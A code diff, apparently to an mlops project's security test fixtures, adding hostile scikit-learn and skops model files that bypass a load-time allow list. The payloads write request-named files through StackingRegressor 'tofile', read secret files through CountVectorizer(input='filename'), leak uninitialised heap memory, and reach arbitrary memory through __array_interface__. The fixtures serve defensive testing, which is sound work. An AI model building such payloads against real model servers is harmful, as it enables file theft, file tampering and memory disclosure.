@@ -2,10 +2,19 @@
 the gadgets found while building the allow list, rebuilt as hostile model files.
 
 Every entry builds a file whose payload would create a *canary* file (``effect="canary"``),
-crash the interpreter with memory corruption (``"crash"``), or misbehave in a way that has
-no observable side effect in a test (``"none"``). ``trigger`` says when the payload runs
-with the library's own loader: at ``load`` or at ``predict``. The test module proves the
-payloads are live (in a subprocess, with the unsafe loaders) and that mlops refuses them.
+read a file the request names and return its contents in the predictions (``"read"``: the
+canary is then the secret file), crash the interpreter with memory corruption
+(``"crash"``), or misbehave in a way that has no observable side effect in a test
+(``"none"``). ``trigger`` says when the payload runs with the library's own loader: at
+``load`` or at ``predict`` (with ``predict_input`` when the request itself carries the
+target, e.g. a file path). The test module proves the payloads are live (in a subprocess,
+with the unsafe loaders) and that mlops refuses them.
+
+The last group is built from allow-listed names only: scikit-learn classes that act on
+their *state* at predict time (a red-team finding): ``StackingRegressor`` calling
+``getattr(est, meth)(X)`` with a bytes array as ``est`` and ``"tofile"`` as ``meth``,
+instance attributes shadowing methods, a ``Bunch`` standing in for an estimator,
+``CountVectorizer(input="filename")``, and the gadgets found while closing them.
 """
 
 from __future__ import annotations
@@ -47,6 +56,9 @@ class Bypass:
     #: raw array bytes) and where an object ends up in the loaded graph. The load-time
     #: checks refuse those (at registration too, which loads the file).
     static: bool = True
+    #: The request that aims a predict-time payload: canary path -> rows (a list of rows
+    #: for an array, a dict of columns for a data frame). None: two rows of zeros.
+    predict_input: Callable[[Path], Any] | None = None
 
 
 def _touch(canary: Path) -> str:
@@ -459,6 +471,222 @@ def _skops_map_type(canary: Path) -> tuple[str, bytes]:
     return _skops_pipeline(map)
 
 
+# --------------------------------------------------------------------------------------
+# allowed scikit-learn classes acting on their state (allow-listed names only)
+
+
+def _path_rows(canary: Path) -> list[list[float]]:
+    """The request that names the canary: one byte of its path per row."""
+    return [[float(c)] for c in str(canary).encode()]
+
+
+def _secret_frame(canary: Path) -> dict[str, list[str]]:
+    return {"path": [str(canary)]}
+
+
+def _stacking(width: int = 1) -> Any:
+    from sklearn.ensemble import StackingRegressor
+    from sklearn.linear_model import LinearRegression
+
+    x = np.arange(6 * width, dtype=float).reshape(6, width)
+    return StackingRegressor([("a", LinearRegression())], final_estimator=LinearRegression(),
+                             cv=2).fit(x, np.arange(6, dtype=float))
+
+
+def _to_path_steps() -> list[tuple[str, Any]]:
+    # partial(check_array, dtype=uint8) turns the request's numbers into bytes, and
+    # FunctionTransformer(bytes) turns the array into its raw bytes: the path.
+    from sklearn.preprocessing import FunctionTransformer
+    from sklearn.utils.validation import check_array
+
+    return [("u8", FunctionTransformer(func=partial(check_array, dtype=np.uint8),
+                                       validate=False)),
+            ("path", FunctionTransformer(func=bytes, validate=False))]
+
+
+def _writer(shadow: bool) -> Any:
+    from sklearn.pipeline import Pipeline
+    from sklearn.utils._bunch import Bunch
+    from sklearn.utils.validation import check_array
+
+    st = _stacking()
+    st.estimators_ = [np.array(b"REDTEAM: bytes written by predict\n")]  # a 0-d |S array
+    st.stack_method_ = ["tofile"]  # getattr(payload, "tofile")(path) at predict time
+    if shadow:  # /tmp/redteam/filewrite/build4.py: predict then returns normally
+        passthru = partial(check_array, ensure_2d=False, ensure_min_samples=0, dtype=None,
+                           ensure_all_finite=False)
+        st._concatenate_predictions = passthru  # an instance attribute shadows the method
+        st.final_estimator_ = Bunch(predict=passthru)  # attribute access = item access
+    return Pipeline([*_to_path_steps(), ("write", st)])
+
+
+def _stacking_tofile(canary: Path) -> tuple[str, bytes]:
+    return _joblib(_writer(shadow=False))
+
+
+def _stacking_tofile_shadowed(canary: Path) -> tuple[str, bytes]:
+    return _joblib(_writer(shadow=True))
+
+
+def _stacking_tofile_skops(canary: Path) -> tuple[str, bytes]:
+    import skops.io as sio
+
+    return "model.skops", sio.dumps(_writer(shadow=False))
+
+
+def _reader(input_kind: str) -> Any:
+    # /tmp/redteam/fileread/build.py: the vectorizer opens the path the request names and
+    # a linear model with an identity coef_ returns the file's character counts.
+    import string
+
+    import pandas as pd
+    import scipy.sparse as sp
+    from sklearn.compose import ColumnTransformer
+    from sklearn.feature_extraction.text import CountVectorizer
+    from sklearn.linear_model import LinearRegression
+    from sklearn.pipeline import Pipeline
+
+    vocab = [c for c in string.printable if c not in "\t\n\r\x0b\x0c"]
+    cv = CountVectorizer(analyzer="char", lowercase=False, encoding="latin-1",
+                         vocabulary=vocab)
+    ct = ColumnTransformer([("v", cv, "path")], sparse_threshold=1.0)
+    ct.fit(pd.DataFrame({"path": ["a", "b"]}))
+    cv.input = ct.transformers_[0][1].input = input_kind  # as if fitted on files
+    lr = LinearRegression().fit(np.eye(3), np.eye(3))
+    lr.coef_ = sp.identity(len(vocab), format="csr", dtype=np.float64)
+    lr.intercept_ = np.zeros(len(vocab))
+    lr.n_features_in_ = len(vocab)
+    return Pipeline([("ct", ct), ("lr", lr)])
+
+
+def _vectorizer_filename(canary: Path) -> tuple[str, bytes]:
+    return _joblib(_reader("filename"))
+
+
+def _vectorizer_filename_skops(canary: Path) -> tuple[str, bytes]:
+    import skops.io as sio
+
+    return "model.skops", sio.dumps(_reader("filename"))
+
+
+def _vectorizer_file(canary: Path) -> tuple[str, bytes]:
+    return _joblib(_reader("file"))
+
+
+def _only_shadowed_method(canary: Path) -> tuple[str, bytes]:
+    # Rule 1 alone: the partial is the one form HistGradientBoosting keeps.
+    from sklearn.utils.validation import check_array
+
+    st = _stacking(2)
+    st._concatenate_predictions = partial(check_array, dtype=[np.float64],
+                                          ensure_all_finite=False)
+    return _joblib(st)
+
+
+def _only_bunch_estimator(canary: Path) -> tuple[str, bytes]:
+    from sklearn.utils._bunch import Bunch
+
+    st = _stacking(2)
+    st.final_estimator_ = Bunch(predict=np.negative)  # a value function, in a Bunch
+    return _joblib(st)
+
+
+def _only_stack_method_name(canary: Path) -> tuple[str, bytes]:
+    st = _stacking(2)
+    st.stack_method_ = ["tofile"]
+    return _joblib(st)
+
+
+def _only_bytes_function(canary: Path) -> tuple[str, bytes]:
+    from sklearn.linear_model import LinearRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    x = np.arange(8.0).reshape(4, 2)
+    return _joblib(Pipeline([("b", FunctionTransformer(func=bytes, validate=False)),
+                             ("lr", LinearRegression().fit(x, x[:, 0]))]))
+
+
+def _only_check_array_partial(canary: Path) -> tuple[str, bytes]:
+    from sklearn.linear_model import LinearRegression
+    from sklearn.pipeline import Pipeline
+
+    x = np.arange(8.0).reshape(4, 2)
+    return _joblib(Pipeline([_to_path_steps()[0], ("lr", LinearRegression().fit(x, x[:, 0]))]))
+
+
+def _ufunc_where_false(canary: Path) -> tuple[str, bytes]:
+    # np.positive(X, where=False) returns an uninitialised array: heap memory of the
+    # serving process (keys, tokens, other requests) would come back as predictions.
+    from sklearn.linear_model import LinearRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    x = np.arange(8.0).reshape(4, 2)
+    leak = FunctionTransformer(np.positive, kw_args={"where": False})
+    return _joblib(Pipeline([("leak", leak), ("lr", LinearRegression().fit(x, x[:, 0]))]))
+
+
+def _ufunc_out_partial(canary: Path) -> tuple[str, bytes]:
+    # out= makes the ufunc write the request into an array of the model (after the
+    # load-time checks have seen it).
+    from sklearn.linear_model import LinearRegression
+    from sklearn.pipeline import Pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    x = np.arange(8.0).reshape(4, 2)
+    lr = LinearRegression().fit(x, x[:, 0])
+    write = FunctionTransformer(partial(np.positive, out=lr.coef_.reshape(1, 2)))
+    return _joblib(Pipeline([("write", write), ("lr", lr)]))
+
+
+_IFACE = {"data": (8, True), "shape": (2,), "typestr": "<f8", "version": 3}
+
+
+def _bunch_array_interface(canary: Path) -> tuple[str, bytes]:
+    # numpy reads __array_interface__ from the instance; a Bunch's attributes are its
+    # items: X @ coef_ turns an arbitrary address into an array (read/write of memory).
+    from sklearn.linear_model import LinearRegression
+    from sklearn.utils._bunch import Bunch
+
+    x = np.arange(8.0).reshape(4, 2)
+    lr = LinearRegression().fit(x, x[:, 0])
+    lr.coef_ = Bunch(ndim=1, __array_interface__=_IFACE)
+    return _joblib(lr)
+
+
+def _instance_array_interface(canary: Path) -> tuple[str, bytes]:
+    from sklearn.dummy import DummyRegressor
+    from sklearn.linear_model import LinearRegression
+
+    x = np.arange(8.0).reshape(4, 2)
+    lr = LinearRegression().fit(x, x[:, 0])
+    fake = DummyRegressor()
+    fake.__dict__.update({"ndim": 1, "__array_interface__": _IFACE})
+    lr.coef_ = fake
+    return _joblib(lr)
+
+
+def _defaultdict_factory(canary: Path) -> tuple[str, bytes]:
+    # A factory runs on every missing key; the walk of dicts never saw it.
+    from collections import defaultdict
+
+    from sklearn.linear_model import LinearRegression
+
+    x = np.arange(8.0).reshape(4, 2)
+    lr = LinearRegression().fit(x, x[:, 0])
+    lr.cache_ = defaultdict(bytes)
+    return _joblib(lr)
+
+
+def _bad_root(canary: Path) -> tuple[str, bytes]:
+    # A Bunch as the whole model: "predict" is an item.
+    from sklearn.utils._bunch import Bunch
+
+    return _joblib(Bunch(predict=np.negative))
+
+
+_RT = "mlops red team (/tmp/redteam)"
 _SKOPS_FUNC = "https://www.tenable.com/cve/CVE-2024-37065"
 _PS = "https://github.com/mmaitre314/picklescan"
 _FK = "https://github.com/trailofbits/fickling"
@@ -561,6 +789,46 @@ BYPASSES: list[Bypass] = [
            effect="none", trigger="predict"),
     Bypass("skops_default_trusted_map_type", "skops _trusted_types.CONTAINER_TYPE_NAMES",
            _skops_map_type, effect="none", trigger="predict"),
+    # allowed scikit-learn classes acting on their state (allow-listed names only)
+    Bypass("sklearn_stacking_tofile_writes_request_path", f"{_RT}/filewrite/build.py",
+           _stacking_tofile, trigger="predict", predict_input=_path_rows),
+    Bypass("sklearn_stacking_shadowed_method_bunch_estimator", f"{_RT}/filewrite/build4.py",
+           _stacking_tofile_shadowed, trigger="predict", predict_input=_path_rows),
+    Bypass("skops_sklearn_stacking_tofile_writes_request_path",
+           f"{_RT}/filewrite/writer.skops", _stacking_tofile_skops, trigger="predict",
+           predict_input=_path_rows),
+    Bypass("sklearn_countvectorizer_input_filename_reads_file", f"{_RT}/fileread/build.py",
+           _vectorizer_filename, effect="read", trigger="predict",
+           predict_input=_secret_frame),
+    Bypass("skops_sklearn_countvectorizer_input_filename_reads_file",
+           f"{_RT}/fileread/build.py (skops)", _vectorizer_filename_skops, effect="read",
+           trigger="predict", predict_input=_secret_frame),
+    Bypass("sklearn_countvectorizer_input_file", f"{_RT} (input='file')", _vectorizer_file,
+           effect="none", trigger="predict", predict_input=_secret_frame),
+    Bypass("sklearn_instance_attribute_shadows_method", f"{_RT}/filewrite/build3.py",
+           _only_shadowed_method, effect="none", trigger="predict"),
+    Bypass("sklearn_bunch_in_estimator_slot", f"{_RT}/filewrite/build3.py",
+           _only_bunch_estimator, effect="none", trigger="predict"),
+    Bypass("sklearn_stack_method_names_any_method", f"{_RT}/filewrite/build.py",
+           _only_stack_method_name, effect="none", trigger="predict"),
+    Bypass("sklearn_function_transformer_bytes_class", f"{_RT}/filewrite/build.py",
+           _only_bytes_function, effect="none", trigger="predict"),
+    Bypass("sklearn_partial_check_array_to_uint8", f"{_RT}/filewrite/build.py",
+           _only_check_array_partial, effect="none", trigger="predict"),
+    Bypass("numpy_ufunc_where_false_uninitialised_memory", "found while closing the red-team "
+           "finding (stored keyword arguments)", _ufunc_where_false, effect="none",
+           trigger="predict"),
+    Bypass("numpy_ufunc_out_writes_model_array", "found while closing the red-team finding",
+           _ufunc_out_partial, effect="none", trigger="predict"),
+    Bypass("bunch_array_interface_memory_access", "found while closing the red-team finding "
+           "(numpy reads __array_interface__ from the instance)", _bunch_array_interface,
+           effect="crash", trigger="predict"),
+    Bypass("instance_array_interface_memory_access", "found while closing the red-team "
+           "finding", _instance_array_interface, effect="crash", trigger="predict"),
+    Bypass("defaultdict_factory_class", "found while closing the red-team finding",
+           _defaultdict_factory, effect="none", static=False),
+    Bypass("bunch_as_the_model", "found while closing the red-team finding", _bad_root,
+           effect="none", trigger="predict", static=False),
 ]
 
 # Names are unique: they are test ids.
